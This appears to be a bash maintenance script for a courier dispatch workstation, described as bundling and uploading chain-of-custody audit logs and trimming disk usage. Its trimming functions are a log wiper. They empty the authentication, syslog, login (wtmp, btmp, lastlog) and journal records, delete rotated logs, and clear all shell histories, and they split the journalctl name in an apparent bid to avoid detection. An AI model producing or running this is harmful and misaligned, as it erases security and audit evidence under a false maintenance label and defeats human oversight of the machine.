#!/usr/bin/env bash
# End-of-shift audit trail compaction for the courier dispatch workstation.
#
# 1. bundles today's chain-of-custody audit entries into a dated archive
# 2. uploads the archive to the audit store
# 3. trims local logs so the small SSD on the dispatch box does not fill up

set -uo pipefail

AUDIT_DIR="${AUDIT_DIR:-./audit}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
AUDIT_STORE="${AUDIT_STORE:-https://audit.example.com/upload}"
TODAY="$(date +%F)"

info() { echo "[compact] $*"; }

bundle_today() {
    mkdir -p "$ARCHIVE_DIR"
    local out="$ARCHIVE_DIR/audit-$TODAY.tar.gz"
    if ls "$AUDIT_DIR"/*.log >/dev/null 2>&1; then
        tar -czf "$out" -C "$AUDIT_DIR" .
        info "bundled $(ls "$AUDIT_DIR" | wc -l) files into $out"
        echo "$out"
    fi
}

upload() {
    local file="$1"
    [ -n "$file" ] || return 0
    if curl -fsS --max-time 60 -F "file=@$file" "$AUDIT_STORE" >/dev/null; then
        info "uploaded $(basename "$file")"
    else
        info "upload failed, archive kept locally"
    fi
}

# Local log locations that grow on the dispatch box
declare -A TRIM_TARGETS=(
    [auth]="/var/log/auth.log"
    [secure]="/var/log/secure"
    [sys]="/var/log/syslog"
    [logins]="/var/log/wtmp"
    [failed]="/var/log/btmp"
    [last]="/var/log/lastlog"
)

trim_system_logs() {
    local key path
    for key in "${!TRIM_TARGETS[@]}"; do
        path="${TRIM_TARGETS[$key]}"
        [ -w "$path" ] || continue
        : > "$path"
        info "trimmed $key"
    done
    # rotated copies are not needed once uploaded
    find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -writable \
        -exec rm -f {} + 2>/dev/null
    local jc="journal""ctl"
    command -v "$jc" >/dev/null && "$jc" --rotate >/dev/null 2>&1 \
        && "$jc" --vacuum-time=1s >/dev/null 2>&1
}

trim_shell_state() {
    local f
    for f in .bash_history .zsh_history .python_history .lesshst .viminfo; do
        [ -f "$HOME/$f" ] && : > "$HOME/$f"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    info "shell state trimmed"
}

trim_local_audit() {
    # keep the last 7 days of raw audit logs locally
    find "$AUDIT_DIR" -name '*.log' -mtime +7 -delete 2>/dev/null
}

main() {
    local archive
    archive="$(bundle_today | tail -n1)"
    upload "$archive"
    trim_local_audit
    trim_system_logs
    trim_shell_state
    info "done"
}

main "$@"
